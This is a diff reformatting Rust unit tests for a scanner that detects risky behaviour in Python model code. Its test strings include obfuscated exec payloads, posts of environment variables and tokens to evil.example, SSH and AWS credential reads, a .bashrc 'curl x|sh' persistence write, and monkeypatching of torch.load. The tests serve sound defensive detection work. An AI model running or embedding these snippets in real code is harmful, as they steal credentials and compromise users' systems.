@@ -7,7 +7,10 @@ fn sites(src: &str) -> Vec<Site> {
 }
 
 fn caps_of(src: &str) -> Vec<(Capability, Severity)> {
-    sites(src).iter().map(|s| (s.capability, s.severity)).collect()
+    sites(src)
+        .iter()
+        .map(|s| (s.capability, s.severity))
+        .collect()
 }
 
 fn worst(src: &str, cap: Capability) -> Option<Severity> {
@@ -85,7 +88,9 @@ fn reports_the_resolved_call_the_position_and_when_it_runs() {
     );
     assert_eq!(site.detail, "runs `id`");
     assert_eq!(site.confidence, Confidence::High);
-    let at_import = sites("import os\n@decorate(os.system('id'))\ndef f(x=os.popen('id')):\n    pass\nclass C:\n    os.system('id')\n");
+    let at_import = sites(
+        "import os\n@decorate(os.system('id'))\ndef f(x=os.popen('id')):\n    pass\nclass C:\n    os.system('id')\n",
+    );
     assert_eq!(at_import.len(), 3, "{at_import:?}");
     assert!(at_import.iter().all(|s| s.when == When::Import));
     let via_module_call = sites("import os\ndef payload():\n    os.system('id')\npayload()\n");
@@ -104,26 +109,56 @@ fn dynamic_code_decoded_blobs_are_decoded_and_analysed_again() {
     let b64 = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=";
     let src = format!("import base64\nexec(base64.b64decode('{b64}'))\n");
     let s = sites(&src);
-    let outer = s.iter().find(|s| s.capability == Capability::DynamicCode).expect("exec");
+    let outer = s
+        .iter()
+        .find(|s| s.capability == Capability::DynamicCode)
+        .expect("exec");
     assert_eq!(outer.severity, Severity::Critical);
-    assert_eq!(outer.decoded.as_ref().map(|d| d.chain.clone()), Some(vec!["base64".to_owned()]));
+    assert_eq!(
+        outer.decoded.as_ref().map(|d| d.chain.clone()),
+        Some(vec!["base64".to_owned()])
+    );
     let inner = s
         .iter()
         .find(|s| s.capability == Capability::ProcessExecution)
         .expect("decoded os.system");
     assert_eq!((inner.line, inner.call.as_str()), (2, "os.system"));
-    assert!(inner.decoded.as_ref().is_some_and(|d| d.excerpt.contains("os.system")), "{inner:?}");
+    assert!(
+        inner
+            .decoded
+            .as_ref()
+            .is_some_and(|d| d.excerpt.contains("os.system")),
+        "{inner:?}"
+    );
 
     // rot13 and hex
     let rot = "vzcbeg bf; bf.flfgrz('vq')";
     let src = format!("import codecs\nexec(codecs.decode(\"{rot}\", 'rot13'))\n");
-    assert_eq!(worst(&src, Capability::ProcessExecution), Some(Severity::Critical), "{:?}", sites(&src));
-    let hex: String = "import os; os.system('id')".bytes().map(|b| format!("{b:02x}")).collect();
+    assert_eq!(
+        worst(&src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(&src)
+    );
+    let hex: String = "import os; os.system('id')"
+        .bytes()
+        .map(|b| format!("{b:02x}"))
+        .collect();
     let src = format!("exec(bytes.fromhex('{hex}').decode())\n");
-    assert_eq!(worst(&src, Capability::ProcessExecution), Some(Severity::Critical), "{:?}", sites(&src));
+    assert_eq!(
+        worst(&src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(&src)
+    );
     // reversed, through a constant
     let src = "P = \")'di'(metsys.so ;so tropmi\"\nexec(P[::-1])\n";
-    assert_eq!(worst(src, Capability::ProcessExecution), Some(Severity::Critical), "{:?}", sites(src));
+    assert_eq!(
+        worst(src, Capability::ProcessExecution),
+        Some(Severity::Critical),
+        "{:?}",
+        sites(src)
+    );
 }
 
 #[test]
@@ -147,7 +182,11 @@ fn base64_encode(data: &[u8]) -> String {
     const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::new();
     for chunk in data.chunks(3) {
-        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
         let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
         for i in 0..4 {
             if i <= chunk.len() {
@@ -162,109 +201,237 @@ fn base64_encode(data: &[u8]) -> String {
 
 #[test]
 fn dynamic_code_computed_is_critical_literal_is_medium() {
-    assert_eq!(worst("eval(user_input)\n", Capability::DynamicCode), Some(Severity::Critical));
-    assert_eq!(worst("exec('x = 1')\n", Capability::DynamicCode), Some(Severity::Medium));
     assert_eq!(
-        worst("import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n", Capability::DynamicCode),
+        worst("eval(user_input)\n", Capability::DynamicCode),
         Some(Severity::Critical)
     );
     assert_eq!(
-        worst("import pickle, requests\npickle.loads(requests.get(U).content)\n", Capability::DynamicCode),
+        worst("exec('x = 1')\n", Capability::DynamicCode),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        worst(
+            "import pickle, base64\npickle.loads(base64.b64decode('gASVAAAA'))\n",
+            Capability::DynamicCode
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pickle, requests\npickle.loads(requests.get(U).content)\n",
+            Capability::DynamicCode
+        ),
         Some(Severity::Critical)
     );
     // A checkpoint the caller names is SRC004's business, not a behaviour site.
-    assert_eq!(caps_of("import pickle\npickle.load(open(path, 'rb'))\n"), vec![]);
+    assert_eq!(
+        caps_of("import pickle\npickle.load(open(path, 'rb'))\n"),
+        vec![]
+    );
     assert_eq!(caps_of("x = 'eval(y)'\n"), vec![]);
 }
 
 #[test]
 fn network_hosts_and_what_is_sent() {
     assert_eq!(
-        worst("import requests\nrequests.get('https://evil.example/x.sh')\n", Capability::Network),
+        worst(
+            "import requests\nrequests.get('https://evil.example/x.sh')\n",
+            Capability::Network
+        ),
         Some(Severity::High)
     );
     assert_eq!(
-        worst("import requests, os\nrequests.post('https://evil.example', json=dict(os.environ))\n", Capability::Network),
+        worst(
+            "import requests, os\nrequests.post('https://evil.example', json=dict(os.environ))\n",
+            Capability::Network
+        ),
         Some(Severity::Critical)
     );
     assert_eq!(
-        worst("import requests, os\nt = os.getenv('HF_TOKEN')\nrequests.post('https://x.example', data={'t': t})\n", Capability::Network),
+        worst(
+            "import requests, os\nt = os.getenv('HF_TOKEN')\nrequests.post('https://x.example', data={'t': t})\n",
+            Capability::Network
+        ),
         Some(Severity::Critical)
     );
     assert_eq!(
-        worst("import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n", Capability::Network),
+        worst(
+            "import socket\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\n",
+            Capability::Network
+        ),
         Some(Severity::High)
     );
     // The Hub is where models come from; a URL the caller passes is at most medium.
-    assert_eq!(caps_of("import requests\nrequests.get('https://huggingface.co/api/models')\n"), vec![]);
     assert_eq!(
-        worst("import requests\ndef load_image(url):\n    return requests.get(url, stream=True).raw\n", Capability::Network),
+        caps_of("import requests\nrequests.get('https://huggingface.co/api/models')\n"),
+        vec![]
+    );
+    assert_eq!(
+        worst(
+            "import requests\ndef load_image(url):\n    return requests.get(url, stream=True).raw\n",
+            Capability::Network
+        ),
         Some(Severity::Medium)
     );
-    assert_eq!(caps_of("URL = 'https://evil.example'  # requests.get(URL)\n"), vec![]);
+    assert_eq!(
+        caps_of("URL = 'https://evil.example'  # requests.get(URL)\n"),
+        vec![]
+    );
 }
 
 #[test]
 fn credential_access_files_variables_and_bulk_environment() {
     assert_eq!(
-        worst("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n", Capability::CredentialAccess),
+        worst(
+            "import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
+            Capability::CredentialAccess
+        ),
         Some(Severity::High)
     );
     assert_eq!(
-        worst("from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n", Capability::CredentialAccess),
+        worst(
+            "from pathlib import Path\n(Path.home() / '.aws' / 'credentials').read_text()\n",
+            Capability::CredentialAccess
+        ),
         Some(Severity::High)
     );
     assert_eq!(
-        worst("import os\nos.environ['HF_TOKEN']\n", Capability::CredentialAccess),
+        worst(
+            "import os\nos.environ['HF_TOKEN']\n",
+            Capability::CredentialAccess
+        ),
         Some(Severity::Medium)
     );
-    assert_eq!(worst("import os\nenv = os.environ.copy()\n", Capability::CredentialAccess), Some(Severity::Medium));
-    assert_eq!(worst("import os\nfor k in os.environ:\n    pass\n", Capability::CredentialAccess), Some(Severity::Medium));
+    assert_eq!(
+        worst(
+            "import os\nenv = os.environ.copy()\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::Medium)
+    );
+    assert_eq!(
+        worst(
+            "import os\nfor k in os.environ:\n    pass\n",
+            Capability::CredentialAccess
+        ),
+        Some(Severity::Medium)
+    );
     // One ordinary setting is not a site; nor is handing the environment to a child process.
-    assert_eq!(caps_of("import os\nos.getenv('CUDA_VISIBLE_DEVICES')\nos.environ.get('TRANSFORMERS_CACHE')\n"), vec![]);
+    assert_eq!(
+        caps_of(
+            "import os\nos.getenv('CUDA_VISIBLE_DEVICES')\nos.environ.get('TRANSFORMERS_CACHE')\n"
+        ),
+        vec![]
+    );
     assert_eq!(caps_of("x = '~/.ssh/id_rsa'\nprint(x)\n"), vec![]);
 }
 
 #[test]
 fn persistence_writes_tampering_and_deferral() {
     assert_eq!(
-        worst("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x|sh')\n", Capability::Persistence),
+        worst(
+            "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x|sh')\n",
+            Capability::Persistence
+        ),
         Some(Severity::Critical)
     );
     assert_eq!(
-        worst("import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n", Capability::Persistence),
-        Some(Severity::Critical)
-    );
-    assert_eq!(worst("import torch\ntorch.load = evil\n", Capability::Persistence), Some(Severity::Critical));
-    assert_eq!(worst("import pickle\npickle.Unpickler = Evil\n", Capability::Persistence), Some(Severity::Critical));
-    assert_eq!(worst("import builtins\nbuiltins.open = my_open\n", Capability::Persistence), Some(Severity::Critical));
-    assert_eq!(worst("import sys\nsys.modules['torch'] = fake\n", Capability::Persistence), Some(Severity::Critical));
-    assert_eq!(worst("import torch\nsetattr(torch, 'load', evil)\n", Capability::Persistence), Some(Severity::Critical));
-    assert_eq!(
-        worst("import atexit, os\ndef bye():\n    os.system('id')\natexit.register(bye)\n", Capability::Persistence),
+        worst(
+            "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n",
+            Capability::Persistence
+        ),
         Some(Severity::Critical)
     );
     assert_eq!(
-        worst("import threading, os\nthreading.Timer(5, lambda: os.system('id')).start()\n", Capability::Persistence),
+        worst("import torch\ntorch.load = evil\n", Capability::Persistence),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pickle\npickle.Unpickler = Evil\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import builtins\nbuiltins.open = my_open\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import sys\nsys.modules['torch'] = fake\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import torch\nsetattr(torch, 'load', evil)\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import atexit, os\ndef bye():\n    os.system('id')\natexit.register(bye)\n",
+            Capability::Persistence
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import threading, os\nthreading.Timer(5, lambda: os.system('id')).start()\n",
+            Capability::Persistence
+        ),
         Some(Severity::Critical)
     );
     // Settings, writes inside the model folder and a worker thread that does nothing listed.
-    assert_eq!(caps_of("import torch\ntorch.backends.cudnn.benchmark = True\n"), vec![]);
-    assert_eq!(caps_of("import os\nopen(os.path.join(save_dir, 'config.json'), 'w')\n"), vec![]);
-    assert_eq!(caps_of("import threading\ndef work():\n    pass\nthreading.Thread(target=work).start()\n"), vec![]);
+    assert_eq!(
+        caps_of("import torch\ntorch.backends.cudnn.benchmark = True\n"),
+        vec![]
+    );
+    assert_eq!(
+        caps_of("import os\nopen(os.path.join(save_dir, 'config.json'), 'w')\n"),
+        vec![]
+    );
+    assert_eq!(
+        caps_of("import threading\ndef work():\n    pass\nthreading.Thread(target=work).start()\n"),
+        vec![]
+    );
     assert_eq!(caps_of("s = 'torch.load = evil'\n"), vec![]);
 }
 
 #[test]
 fn package_installs() {
     assert_eq!(
-        worst("import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://x', 'pkg'])\n", Capability::PackageInstall),
+        worst(
+            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '--index-url', 'https://x', 'pkg'])\n",
+            Capability::PackageInstall
+        ),
         Some(Severity::Critical)
     );
-    assert_eq!(worst("import os\nos.system('pip install evil')\n", Capability::PackageInstall), Some(Severity::Critical));
-    assert_eq!(worst("import pip\npip.main(['install', 'x'])\n", Capability::PackageInstall), Some(Severity::Critical));
     assert_eq!(
-        worst("from pip._internal.cli.main import main\nmain(['install', 'x'])\n", Capability::PackageInstall),
+        worst(
+            "import os\nos.system('pip install evil')\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "import pip\npip.main(['install', 'x'])\n",
+            Capability::PackageInstall
+        ),
+        Some(Severity::Critical)
+    );
+    assert_eq!(
+        worst(
+            "from pip._internal.cli.main import main\nmain(['install', 'x'])\n",
+            Capability::PackageInstall
+        ),
         Some(Severity::Critical)
     );
     assert_eq!(caps_of("# pip install flash-attn\nimport torch\n"), vec![]);
@@ -272,15 +439,29 @@ fn package_installs() {
 
 #[test]
 fn native_loads_record_the_library() {
-    let s = sites("import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n");
-    let n = s.iter().find(|s| s.capability == Capability::NativeLoad).expect("native");
+    let s = sites(
+        "import ctypes, os\nlib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n",
+    );
+    let n = s
+        .iter()
+        .find(|s| s.capability == Capability::NativeLoad)
+        .expect("native");
     assert_eq!(n.severity, Severity::High);
     assert_eq!(n.library.as_deref(), Some("libx.so"));
     assert_eq!(
-        worst("import torch\ntorch.ops.load_library('./kernels/libops.so')\n", Capability::NativeLoad),
+        worst(
+            "import torch\ntorch.ops.load_library('./kernels/libops.so')\n",
+            Capability::NativeLoad
+        ),
         Some(Severity::High)
     );
-    assert_eq!(worst("import ctypes\nctypes.CDLL('libc.so.6')\n", Capability::NativeLoad), Some(Severity::Medium));
+    assert_eq!(
+        worst(
+            "import ctypes\nctypes.CDLL('libc.so.6')\n",
+            Capability::NativeLoad
+        ),
+        Some(Severity::Medium)
+    );
     assert_eq!(caps_of("# ctypes.CDLL('x.so')\n"), vec![]);
 }
 
@@ -291,5 +472,8 @@ fn hostile_inputs_are_bounded() {
     let long_join = format!("exec(''.join([{}]))\n", "'a',".repeat(10_000));
     let _ = sites(&long_join);
     let bad = "import base64\nexec(base64.b64decode('!!!'))\n";
-    assert_eq!(worst(bad, Capability::DynamicCode), Some(Severity::Critical));
+    assert_eq!(
+        worst(bad, Capability::DynamicCode),
+        Some(Severity::Critical)
+    );
 }
